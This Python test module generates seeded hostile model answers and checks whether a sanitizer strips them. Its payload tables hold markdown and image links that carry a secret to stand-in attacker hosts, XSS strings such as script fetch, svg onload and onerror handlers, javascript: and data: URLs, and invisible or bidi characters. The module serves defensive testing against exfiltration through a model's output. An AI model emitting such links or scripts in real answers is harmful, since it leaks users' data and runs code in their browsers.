"""Answers as an attacker would have a model write them, and what must not be left of them."""

import random
import re
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from typing import Final

from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

SECRET: Final = "s3cr3t"
_HOSTS = (
    "evil.example",
    "EVIL.Example:8443",
    "127.0.0.1",
    "[::1]",
    "localhost",
    "evil.com",
    "xn--bcher-kva.example",
    "bücher.example",
    "例え.jp",
    "a.b.c.d.evil.co.uk",
    "user@evil.example",
    "evil.com\\@ok.example",
    "ok.example.evil.com",
)
_SCHEMES = (
    "https://",
    "http://",
    "HTTPS://",
    "//",
    "www.",
    "ftp://",
    "https:/",
    "ws://",
    "file:///",
    "\\\\",
    "",
    "x-app://",
)
_TAILS = (
    f"/?q={SECRET}",
    f"/{SECRET}.png",
    f"#{SECRET}",
    f"/{SECRET}/a_(b)",
    "",
    f"/a?x=1&y={SECRET}",
    f"/%2e%2e/{SECRET}",
)
_OPAQUE = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert`1`",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    f"mailto:evil@evil.example?body={SECRET}",
    "tel:+15550100",
    "&#106;avascript:alert(1)",
    "java\nscript:alert(1)",
    "java\u200bscript:alert(1)",
    f"evil@evil.example?{SECRET}",
)
_LINKS = (
    "[more]({})",
    "![]({})",
    "![a]( <{}> )",
    '[t]({} "title")',
    "[![x]({0})]({0})",
    "[see][e]\n\n[e]: {}",
    "[e]: {}\n\n[e] ![e]",
    "[1]: {}\n\nThree years [1].",
    "[\n1\n]: <{}>\n\n[1]",
    "<{}>",
    "{}",
    "({})",
    "**{}**",
    "`{}`",
    "a{}b",
    "[1]({})",
    "[1] ({})",
    "[[1]]({})",
    "[x](\n{}\n)",
    "\\[x]({})",
    "[x\\]({})",
    "[x](({}))",
    "[x]({}",
    "{}[1]",
    "{}秘密",
    '"{}"',
    "| a | {} |\n|---|---|\n| 1 | {} |",
    "[^1]: {}\n\n[^1]",
    "[9]({})",
    "ok[9]{}",
)
_TAGS = (
    "<img src={}>",
    '<img src="{}" onerror="alert(1)">',
    "<a href='{}'>x</a>",
    "<script src={}></script>",
    "<script>fetch('{}')</script>",
    "<svg/onload=fetch('{}')>",
    '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;" src="{}"></iframe>',
    "<style>@import '{}';</style>",
    '<meta http-equiv=refresh content="0;url={}">',
    "<base href={}>",
    "<form action={}><button>go</button></form>",
    "<details open ontoggle=alert(1)>{}",
    "<x-element onclick=alert(1)>{}</x-element>",
    "<!--><img src={}>-->",
    "<![CDATA[><img src={}>]]>",
    "<?xml-stylesheet href='{}'?>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>{}",
    "<<script>script src={}>",
    "<img src={} alt='>' onerror=alert(1)",
    "&lt;img src={}&gt;",
    "&amp;lt;img src={}&amp;gt;",
    "&#60;img src={}&#x3e;",
    "<im\u200bg src={}>",
    "<[9]img src={}>",
    "<a\nhref\n=\n{}>x</a>",
    "<p\x0cstyle=background:url({})>",
    "<MATH><mi xlink:href={}>x</mi></MATH>",
    "\\<img src={}>",
)
_CITED = (
    "[9]",
    "[0]",
    "[1, 9]",
    "[7-99]",
    "[[9]1]",
    "[1][99][1]",
    "[ 12 ]",
    "[\u0669]",
    "[\u00a09]",
    "[9][9]9]",
    "[9\n]",
    "[-9]",
)
_UNSEEN = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2060",
    "\u00ad",
    "\U000e0053",
    "\ufe01",
    "\u115f",
    "\x1b[2J",
    "\x00",
    "\u200f",
)
_HONEST = (
    "The warranty lasts three years [1].",
    "Tea is served at four [1]",
    "Visitors park behind the mill.",
    "- one",
    "\n\n",
    "2 < 3",
)


def answers(number: int, *, seed: int, addresses: Sequence[str] = ()) -> list[str]:
    """So many hostile answers, the same for the same seed. `addresses` stand in sources, and are built upon."""
    chance = random.Random(seed)
    return [_answer(chance, addresses) for _ in range(number)]


def _answer(chance: random.Random, addresses: Sequence[str]) -> str:
    parts = [chance.choice(_HONEST)]
    makers: list[Callable[[random.Random, str], str]] = [_link, _tag, _citation, _unseen]
    for _ in range(chance.randint(1, 4)):
        address = _address(chance, addresses)
        parts += [chance.choice([" ", "\n", "", ". "]), chance.choice(makers)(chance, address)]
    parts.append(chance.choice(["", " ", " [1]", " the end."]))
    return _disguised(chance, "".join(parts))


def _address(chance: random.Random, addresses: Sequence[str]) -> str:
    made = chance.choice(_SCHEMES) + chance.choice(_HOSTS) + chance.choice(_TAILS)
    built_upon = [
        f"{address}{chance.choice(['', SECRET, f'&d={SECRET}', f'({SECRET})', f',{SECRET}'])}"
        for address in addresses
    ]
    return chance.choice([made, made, chance.choice(_OPAQUE), *built_upon])


def _link(chance: random.Random, address: str) -> str:
    return chance.choice(_LINKS).replace("{0}", address).replace("{}", address)


def _tag(chance: random.Random, address: str) -> str:
    return chance.choice(_TAGS).replace("{}", address)


def _citation(chance: random.Random, address: str) -> str:
    return chance.choice(_CITED) + chance.choice(["", f"({address})", f": {address}"])


def _unseen(chance: random.Random, address: str) -> str:
    cut = chance.randint(0, len(address))
    return address[:cut] + chance.choice(_UNSEEN) + address[cut:]


def _disguised(chance: random.Random, text: str) -> str:
    """Sometimes with a character written as an entity, or with a backslash before it."""
    at = chance.randrange(len(text))
    disguises = (
        text[at],
        text[at],
        f"&#{ord(text[at])};",
        f"&#x{ord(text[at]):x};",
        f"\\{text[at]}",
        f"{text[at]}\u200c",
    )
    return text[:at] + chance.choice(disguises) + text[at + 1 :]


# What is left --------------------------------------------------------------------------------------------------

_LINKIFYING = MarkdownIt("gfm-like", {"html": True, "linkify": True})
_PLAIN = MarkdownIt("commonmark", {"html": True})
# What Markdown makes of an answer without a link, a picture or HTML.
_HARMLESS = frozenset(
    "html head body p em strong code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr td th hr br s a".split()  # noqa: SIM905  # a line of words reads better
)
_SEEMS_ADDRESS = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:|(?<!\w))//\w|(?<!\w)www\.\w|(?:javascript|vbscript|mailto|tel):\S|data:\w+/|\w@\w+\.\w",
    re.IGNORECASE,
)


def harm(answer: str, sources: Sequence[str], *, given: frozenset[int]) -> Iterator[str]:
    """What is left in the answer that must not be: judged by parsers that are not ours, as a reader might use them."""
    yield from (f"character {ord(c):x}" for c in answer if _is_unseen(c))
    cited = {int(number) for number in re.findall(r"\[\s*(\d{1,3})\s*\]", answer)}
    yield from (f"citation {number}" for number in sorted(cited - given))
    yield from _running(answer)
    for reader in (_LINKIFYING, _PLAIN):
        yield from _linking(LexborHTMLParser(reader.render(answer)), sources)
    literal = "\n".join(sources)
    for found in _SEEMS_ADDRESS.finditer(answer):
        word = re.search(r"\S*", answer[found.start() :])
        if word and word[0].rstrip(".,;:!?)]}>\"'*_`|~") not in literal:
            yield f"address {word[0]!r}"


def _is_unseen(character: str) -> bool:
    return unicodedata.category(character) in {"Cf", "Cc", "Co", "Cn"} and character not in "\n\t"


def _running(answer: str) -> Iterator[str]:
    tree = LexborHTMLParser(f"<body>{answer}")
    yield from (f"element {node.tag}" for node in tree.css("*") if node.tag not in {"html", "head", "body"})


def _linking(tree: LexborHTMLParser, sources: Sequence[str]) -> Iterator[str]:
    for node in tree.css("*"):
        if node.tag not in _HARMLESS:
            yield f"element {node.tag}"
        attributes = {name for name in node.attributes if name not in {"href", "start", "class", "style"}}
        yield from (f"attribute {name}" for name in sorted(attributes))
        # A reader may show a host in letters that stands in the source in ASCII.
        shown = {node.text(), node.attributes.get("href") or node.text()}
        if node.tag == "a" and not any(address in text for text in sources for address in shown):
            yield f"link {node.text()!r} to {node.attributes.get('href')!r}"
